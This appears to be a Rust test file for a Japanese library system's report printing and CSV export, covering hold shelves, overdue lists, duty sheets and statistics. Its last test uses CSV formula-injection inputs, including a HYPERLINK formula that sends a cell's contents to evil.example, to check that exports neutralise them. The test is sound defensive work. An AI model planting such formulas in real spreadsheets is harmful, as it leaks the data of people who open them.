//! Supervisor reports built from the real core queries, printed, and read back with poppler;
//! CSV exports checked byte by byte where Excel cares (BOM, CRLF, quoting).

mod common;

use common::*;
use kashidashi_core::holds::HoldStatus;
use kashidashi_print::reports::{self, Header, Report};

fn header(d: &Desk, desk: &str, date: &str) -> Header {
    Header::new(d.lib.policy(), desk, day(date), day(date))
}

/// Each page's text: pdftotext ends every page with a form feed.
fn page_texts(pdf: &std::path::Path) -> Vec<String> {
    text(pdf)
        .split('\u{c}')
        .filter(|p| !p.trim().is_empty())
        .map(str::to_string)
        .collect()
}

fn csv_text(r: &Report) -> String {
    let bytes = r.csv();
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "UTF-8 byte-order mark first");
    let s = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert!(s.ends_with("\r\n"));
    assert_eq!(
        s.matches('\n').count(),
        s.matches("\r\n").count(),
        "CRLF only"
    );
    s
}

fn card(n: usize) -> String {
    format!("2{n:09}")
}

fn barcode(n: usize) -> String {
    format!("1{n:09}")
}

fn title(n: usize) -> String {
    if n.is_multiple_of(7) {
        format!("北海道の自然と歴史をたずねる旅 第{n}巻 道東・道北編 (改訂新版)")
    } else {
        format!("札幌資料 {n}")
    }
}

/// `n` ready holds on the general counter's shelf, each placed and trapped through the core:
/// ten patrons' worth of holds at a time (the limit, C8).
fn shelf_of(n: usize) -> Desk {
    let mut d = library();
    for p in 1..=n.div_ceil(10) {
        d.patron(&card(p), &format!("利用者 {p}"));
    }
    for i in 1..=n {
        d.copy(&barcode(i), &title(i), "general", &format!("210/{i}"));
        d.hold("2026-04-01", &card(i.div_ceil(10)), &barcode(i), "general");
        d.checkin("general", "2026-04-01", &barcode(i));
    }
    d
}

#[test]
fn a_thousand_row_hold_shelf_breaks_into_numbered_pages_with_the_header_repeated() {
    let mut d = shelf_of(1000);
    let lines = d
        .lib
        .hold_shelf_report(&actor("general", "2026-04-02"), "general")
        .unwrap();
    assert_eq!(lines.len(), 1000);
    assert!(lines.iter().all(|l| l.hold.status == HoldStatus::Ready));
    let report = reports::hold_shelf(header(&d, "general", "2026-04-02"), &lines);
    let out = out_dir();
    let pdf = write(out.path(), "hold-shelf.pdf", &report.pdf());
    let n = pages(&pdf);
    assert!(n > 1, "{n} pages");
    let texts = page_texts(&pdf);
    assert_eq!(texts.len(), n);
    for (i, t) in texts.iter().enumerate() {
        let footer: String = t
            .trim_end()
            .lines()
            .last()
            .unwrap()
            .split_whitespace()
            .collect();
        assert_eq!(footer, format!("{}/{n}", i + 1));
        assert_has(t, "予約棚一覧");
        assert_has(t, "取置期限 予約番号 資料番号 書名 請求記号 利用者番号");
    }
    let all = squeeze(&texts.concat());
    for i in 1..=1000 {
        assert!(all.contains(&barcode(i)), "{} missing", barcode(i));
    }
    assert_eq!(
        all.matches("北海道の自然と歴史").count(),
        1000 / 7,
        "long titles wrap, not vanish"
    );
    render(&pdf, 150);

    let csv = csv_text(&report);
    let mut rows = csv.split("\r\n");
    assert_eq!(
        rows.next().unwrap(),
        "\"取置期限\",\"予約番号\",\"資料番号\",\"書名\",\"請求記号\",\"利用者番号\""
    );
    assert_eq!(csv.matches("\r\n").count(), 1001);
    let first: Vec<&str> = rows.next().unwrap().split("\",\"").collect();
    assert_eq!(first.len(), 6);
    assert!(
        first[0].starts_with("\"2026-04-"),
        "ISO dates for Excel: {first:?}"
    );
    assert_eq!(first[2], barcode(1));
    assert!(first[5].ends_with("0001\""), "{first:?}");
}

#[test]
fn expired_holds_list_what_to_clear_before_and_after_the_nightly_expiry() {
    let mut d = shelf_of(2);
    let shelf = d
        .lib
        .hold_shelf_report(&actor("general", "2026-04-02"), "general")
        .unwrap();
    let h = &shelf[0].hold;
    let last_day = h.expires_on.unwrap();
    let after = last_day.succ_opt().unwrap().format("%Y-%m-%d").to_string();
    let on_last_day = d
        .lib
        .expired_holds_report(&actor("general", &after), "general", last_day)
        .unwrap();
    assert!(on_last_day.is_empty(), "still within its shelf days");
    let before_job = d
        .lib
        .expired_holds_report(&actor("general", &after), "general", day(&after))
        .unwrap();
    assert_eq!(before_job.len(), 2);
    d.lib.expire_shelf(&actor("general", &after)).unwrap();
    let after_job = d
        .lib
        .expired_holds_report(&actor("general", &after), "general", day(&after))
        .unwrap();
    assert_eq!(after_job.len(), 2);
    assert!(
        after_job
            .iter()
            .all(|l| l.hold.status == HoldStatus::Expired)
    );

    let out = out_dir();
    let before = write(
        out.path(),
        "before.pdf",
        &reports::expired_holds(header(&d, "general", &after), d.lib.policy(), &before_job).pdf(),
    );
    let t = text(&before);
    assert_has(&t, "取置期限切れ予約一覧");
    assert_has(&t, "期限切れ(未処理)");
    assert_has(&t, &barcode(1));
    assert_has(&t, "210/1");
    // Defect 7: once expired, each row still names the copy on the shelf and where it goes.
    let after_pdf = write(
        out.path(),
        "after.pdf",
        &reports::expired_holds(header(&d, "general", &after), d.lib.policy(), &after_job).pdf(),
    );
    let t = text(&after_pdf);
    assert_has(&t, &title(1));
    for i in 1..=2 {
        assert_has(&t, &barcode(i));
        assert_has(&t, &format!("210/{i}"));
    }
    assert_has(&t, "書架へ戻す");
    assert!(!t.contains("期限切れ(未処理)"), "{t}");
}

#[test]
fn pull_list_groups_by_collection_in_call_number_order() {
    let mut d = library();
    d.patron(&card(1), "山田 太郎");
    d.copy(&barcode(3), "函館の坂道", "general", "291.1/H");
    d.copy(&barcode(1), "アイヌ語地名考", "northern", "H829/A");
    d.copy(&barcode(2), "石狩平野の農業", "general", "210/I");
    for i in 1..=3 {
        d.hold("2026-04-01", &card(1), &barcode(i), "general");
    }
    let general = d
        .lib
        .pull_list(&actor("general", "2026-04-01"), "general")
        .unwrap();
    let northern = d
        .lib
        .pull_list(&actor("general", "2026-04-01"), "northern")
        .unwrap();
    let mut entries = general;
    entries.extend(northern);
    let report = reports::pull_list(
        header(&d, "general", "2026-04-01"),
        d.lib.policy(),
        &entries,
    );
    let out = out_dir();
    let pdf = write(out.path(), "pull.pdf", &report.pdf());
    let t = squeeze(&text(&pdf));
    let (a, b) = (t.find("210/I").unwrap(), t.find("291.1/H").unwrap());
    assert!(a < b, "call-number order: {t}");
    assert!(
        t.contains("一般資料 (2件)") && t.contains("北方資料 (1件)"),
        "{t}"
    );
    let csv = csv_text(&report);
    assert!(csv.starts_with("\"区分\",\"請求記号\""), "{csv}");
    assert!(
        csv.contains("\"北方資料\",\"H829/A\",\"1000000001\",\"アイヌ語地名考\""),
        "{csv}"
    );
}

#[test]
fn delivery_run_lists_each_partner_librarys_box_for_the_run_date() {
    let mut d = library();
    d.patron(&card(1), "山田 太郎");
    d.copy(&barcode(1), "江別のれんが", "general", "573/E");
    let hold = d.hold("2026-04-06", &card(1), &barcode(1), "ebetsu");
    d.checkin("general", "2026-04-07", &barcode(1));
    let run = d
        .lib
        .hold(&actor("general", "2026-04-07"), hold)
        .unwrap()
        .delivery_run
        .unwrap();
    let run_s = run.format("%Y-%m-%d").to_string();
    let all = d
        .lib
        .delivery_run_report(&actor("general", &run_s), "general", run)
        .unwrap();
    assert_eq!(all.len(), 4, "every partner library of the profile");
    let only = d
        .lib
        .delivery_run_report(&actor("ebetsu", &run_s), "ebetsu", run)
        .unwrap();
    assert_eq!(only.len(), 1);
    assert_eq!(only[0].holds.len(), 1);
    let report = reports::delivery_run(header(&d, "general", &run_s), &all);
    let out = out_dir();
    let pdf = write(out.path(), "run.pdf", &report.pdf());
    let t = text(&pdf);
    assert_has(&t, "配送便 送付リスト");
    assert_has(&t, "江別市情報図書館 (1件)");
    assert_has(&t, "札幌市中央図書館 (0件)");
    assert_has(&t, "江別のれんが");
    assert_has(&t, "該当するものはありません。");
    let csv = csv_text(&report);
    assert!(
        csv.contains(&format!(
            "\"江別市情報図書館\",\"{hold}\",\"{}\"",
            barcode(1)
        )),
        "{csv}"
    );
}

#[test]
fn duty_sheet_says_what_to_bring_take_back_and_process_in_the_diet_room() {
    let mut d = library();
    d.patron(&card(1), "山田 太郎");
    d.patron(&card(2), "佐藤 花子");
    d.copy(&barcode(1), "持参する本", "general", "100/A");
    d.copy(&barcode(2), "返却された本", "general", "200/B");
    d.copy(&barcode(3), "貸出中の本", "general", "300/C");
    d.copy(&barcode(4), "取りに来なかった本", "general", "400/D");
    // To bring: a hold collected in the room, its copy pulled at the main library.
    d.hold("2026-04-06", &card(1), &barcode(1), "diet");
    d.checkin("general", "2026-04-07", &barcode(1));
    // To take back: lent in the room on Tuesday, returned there on Thursday (H15).
    d.checkout("diet", "2026-04-07", &card(2), &barcode(2));
    d.checkin("diet", "2026-04-09", &barcode(2));
    // To process when handed in: lent in the room and still out.
    d.checkout("diet", "2026-04-09", &card(2), &barcode(3));
    // To take back: a hold that waited its ten open days in the room (H10) and was not collected.
    let uncollected = d.hold("2026-04-06", &card(1), &barcode(4), "diet");
    d.checkin("general", "2026-04-07", &barcode(4));
    d.checkin("diet", "2026-04-09", &barcode(4));
    let last_day = d
        .lib
        .hold(&actor("general", "2026-04-09"), uncollected)
        .unwrap()
        .expires_on
        .unwrap();
    assert_eq!(last_day, day("2026-04-23"));

    // Tuesday 28 April, a duty day after the last shelf day: before and after the nightly job.
    let sheet = d
        .lib
        .duty_sheet(&actor("general", "2026-04-28"), "diet", day("2026-04-28"))
        .unwrap();
    d.lib.expire_shelf(&actor("general", "2026-04-28")).unwrap();
    let after_job = d
        .lib
        .duty_sheet(&actor("general", "2026-04-28"), "diet", day("2026-04-28"))
        .unwrap();
    assert_eq!(
        after_job.expired.len(),
        1,
        "the copy is still on the room's shelf"
    );
    assert!(sheet.duty_day, "Tuesday is a duty day");
    assert_eq!(sheet.bring.len(), 1);
    assert_eq!(sheet.expired.len(), 1);
    assert_eq!(sheet.returned.len(), 1);
    assert_eq!(sheet.loans.len(), 1);
    let report = reports::duty_sheet(header(&d, "diet", "2026-04-28"), d.lib.policy(), &sheet);
    let out = out_dir();
    let pdf = write(out.path(), "duty.pdf", &report.pdf());
    let t = text(&pdf);
    for expected in [
        "道議会図書室 当番用リスト",
        "当番日です",
        "持参する資料(予約) (1件)",
        "持参する本",
        "持ち帰る資料(取置期限切れ) (1件)",
        "取りに来なかった本",
        "2026/4/23(木) 取置期限切れ",
        "持ち帰る資料(返却済・回送) (1件)",
        "返却された本",
        "返却された本 一般資料カウンター",
        "返却処理の対象(この室で貸出中) (1件)",
        "貸出中の本",
        "2026/4/23(木) 延滞",
    ] {
        assert_has(&t, expected);
    }
    let counter = d
        .lib
        .duty_sheet(
            &actor("general", "2026-04-28"),
            "general",
            day("2026-04-28"),
        )
        .unwrap_err();
    assert_eq!(counter.code(), "input.bad_value");
}

/// The overdue report as the CLI makes it: rows streamed from the core, the CSV written as they
/// come, the PDF listing at most `pdf_rows`.
fn overdue_report(d: &mut Desk, date: &str, pdf_rows: usize) -> (Report, Vec<u8>) {
    let mut csv = Vec::new();
    let report = reports::build(
        &mut d.lib,
        &actor("general", date),
        reports::ReportKind::Overdue,
        day(date),
        Some(&mut csv),
        pdf_rows,
    )
    .unwrap();
    (report, csv)
}

#[test]
fn overdue_list_names_the_patron_to_call_and_counts_days() {
    let mut d = library();
    d.patron(&card(1), "山田 太郎");
    d.copy(&barcode(1), "延滞している本", "general", "100/A");
    d.copy(&barcode(2), "まだ期限内の本", "general", "100/B");
    d.checkout("general", "2026-04-01", &card(1), &barcode(1));
    d.checkout("general", "2026-04-10", &card(1), &barcode(2));
    let (report, csv) = overdue_report(&mut d, "2026-04-20", reports::PDF_ROWS);
    assert_eq!(report.row_count(), 1);
    let out = out_dir();
    let pdf = write(out.path(), "overdue.pdf", &report.pdf());
    let t = text(&pdf);
    for expected in [
        "延滞資料一覧",
        "職員用",
        "延滞している本",
        "2026/4/15(水)",
        &card(1),
        "山田 太郎",
        "011-231-4111",
    ] {
        assert_has(&t, expected);
    }
    assert!(!t.contains("まだ期限内の本"));
    assert!(!t.contains("印刷を省略"), "a short list is printed whole");
    assert_eq!(pages(&pdf), 1);
    // The bytes the report wrote before it streamed: Excel's BOM, every field quoted, CRLF.
    assert_eq!(
        String::from_utf8(csv).unwrap(),
        format!(
            "\u{feff}\"返却期限\",\"延滞日数\",\"資料番号\",\"書名\",\"利用者番号\",\"氏名\",\"電話\"\r\n\
             \"2026-04-15\",\"5\",\"{}\",\"延滞している本\",\"{}\",\"山田 太郎\",\"011-231-4111\"\r\n",
            barcode(1),
            card(1)
        )
    );
}

/// `expected` in `text` with every space taken out of both: Japanese lines wrap anywhere.
fn assert_has_unspaced(text: &str, expected: &str) {
    let bare = |s: &str| s.split_whitespace().collect::<String>();
    assert!(
        bare(text).contains(&bare(expected)),
        "{expected:?} missing from:\n{text}"
    );
}

/// Defect 9: a list longer than the PDF's cap prints its first rows in the report's order, says
/// so on every page, and ends with a page that sends staff to the CSV, which has every row.
#[test]
fn an_overdue_list_past_the_pdf_cap_prints_the_first_rows_and_points_to_the_csv() {
    let mut d = library();
    for p in 1..=3 {
        d.patron(&card(p), &format!("利用者 {p}"));
    }
    for i in 1..=25 {
        d.copy(&barcode(i), &format!("延滞本 {i}"), "general", "100/A");
    }
    // Copies 13-25 went out first (due 4/15), 1-12 a day later (due 4/16): the longest overdue
    // come first, whatever order they were lent in.
    for i in (13..=25).chain(1..=12) {
        let lent = if i >= 13 { "2026-04-01" } else { "2026-04-02" };
        d.checkout("general", lent, &card((i - 1) / 10 + 1), &barcode(i));
    }
    let (report, csv) = overdue_report(&mut d, "2026-04-20", 10);
    assert_eq!(report.row_count(), 25);

    let csv = String::from_utf8(csv).unwrap();
    let lines: Vec<&str> = csv.trim_end().split("\r\n").collect();
    assert_eq!(lines.len(), 26, "a header and every row: {csv}");
    assert!(lines[1].starts_with(&format!("\"2026-04-15\",\"5\",\"{}\"", barcode(13))));
    assert!(lines[25].starts_with(&format!("\"2026-04-16\",\"4\",\"{}\"", barcode(12))));
    for i in 1..=25 {
        assert!(
            csv.contains(&barcode(i)),
            "{} missing from the CSV",
            barcode(i)
        );
    }

    let out = out_dir();
    let pdf = write(out.path(), "overdue.pdf", &report.pdf());
    let texts = page_texts(&pdf);
    assert_eq!(texts.len(), pages(&pdf));
    assert_eq!(texts.len(), 2, "the first rows, then the summary page");
    for t in &texts {
        assert_has_unspaced(
            t,
            "全25件のうち先頭10件を印刷しています。残り15件は印刷していません",
        );
    }
    let listed = squeeze(&texts[0]);
    for i in 13..=22 {
        assert!(listed.contains(&barcode(i)), "{} not printed", barcode(i));
    }
    for i in (23..=25).chain(1..=12) {
        assert!(
            !listed.contains(&barcode(i)),
            "{} printed past the cap",
            barcode(i)
        );
    }
    let summary = &texts[1];
    for expected in [
        "印刷を省略した行",
        "この報告は全25件です",
        "先頭の10件",
        "残り15件は印刷していません",
        "--csv",
    ] {
        assert_has_unspaced(summary, expected);
    }
    assert!(
        !summary.contains(&barcode(13)),
        "the summary page lists no rows"
    );
    assert_eq!(render(&pdf, 50).len(), 2, "both pages render");
}

#[test]
fn daily_statistics_count_per_desk_and_carry_no_patron_or_title() {
    let mut d = library();
    d.patron(&card(1), "山田 太郎");
    for i in 1..=4 {
        d.copy(&barcode(i), &format!("統計の本 {i}"), "general", "100/A");
    }
    d.checkout("general", "2026-04-07", &card(1), &barcode(1));
    d.checkout("general", "2026-04-07", &card(1), &barcode(2));
    d.checkout("diet", "2026-04-07", &card(1), &barcode(3));
    d.checkin("general", "2026-04-07", &barcode(1));
    let b = d.item(&barcode(2));
    d.lib
        .renew(&actor("general", "2026-04-07"), &b, false)
        .unwrap();
    d.hold("2026-04-07", &card(1), &barcode(4), "general");
    // Another day's work is not counted.
    d.checkin("general", "2026-04-08", &barcode(2));

    let counts = d
        .lib
        .daily_stats(&actor("general", "2026-04-08"), day("2026-04-07"))
        .unwrap();
    let general = counts
        .iter()
        .find(|c| c.name == "一般資料カウンター")
        .unwrap();
    assert_eq!(
        (
            general.checkouts,
            general.checkins,
            general.renewals,
            general.holds_placed
        ),
        (2, 1, 1, 1)
    );
    let report = reports::daily_stats(header(&d, "general", "2026-04-07"), &counts);
    let csv = csv_text(&report);
    assert!(
        csv.starts_with("\"窓口\",\"貸出\",\"返却\",\"延長\",\"予約受付\"\r\n"),
        "{csv}"
    );
    assert!(
        csv.contains("\"一般資料カウンター\",\"2\",\"1\",\"1\",\"1\"\r\n"),
        "{csv}"
    );
    assert!(
        csv.contains("\"道議会図書室\",\"1\",\"0\",\"0\",\"0\"\r\n"),
        "{csv}"
    );
    assert!(
        csv.contains("\"合計\",\"3\",\"1\",\"1\",\"1\"\r\n"),
        "{csv}"
    );
    let out = out_dir();
    let pdf = write(out.path(), "stats.pdf", &report.pdf());
    let t = text(&pdf);
    assert_has(&t, "貸出統計(日計)");
    assert_has(&t, "合計 3 1 1 1");
    for private in [card(1), barcode(1), "統計の本".into(), "山田".into()] {
        assert!(
            !t.contains(&private) && !csv.contains(&private),
            "{private} leaked"
        );
    }
}

#[test]
fn csv_cells_that_excel_would_run_as_formulas_start_with_an_apostrophe() {
    let mut d = library();
    d.patron(&card(1), "=1+1");
    let titles = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")",
        "+SUM(1,2)",
        "-2+3",
        "@SUM(A1)",
        "ふつうの本 =そのまま",
    ];
    for (i, t) in titles.iter().enumerate() {
        d.copy(&barcode(i + 1), t, "general", "100/A");
        d.checkout("general", "2026-04-01", &card(1), &barcode(i + 1));
    }
    let (report, csv) = overdue_report(&mut d, "2026-04-20", reports::PDF_ROWS);
    assert_eq!(report.row_count(), titles.len());
    let csv = String::from_utf8(csv).unwrap();
    for t in &titles[..4] {
        assert!(
            csv.contains(&format!("\"'{}\"", t.replace('"', "\"\""))),
            "{t:?} in {csv}"
        );
    }
    assert!(csv.contains("\"ふつうの本 =そのまま\""), "{csv}");
    assert!(csv.contains("\"'=1+1\""), "the patron's name too: {csv}");
    assert!(
        !csv.contains(",\"=") && !csv.contains(",\"+") && !csv.contains(",\"@"),
        "{csv}"
    );
}
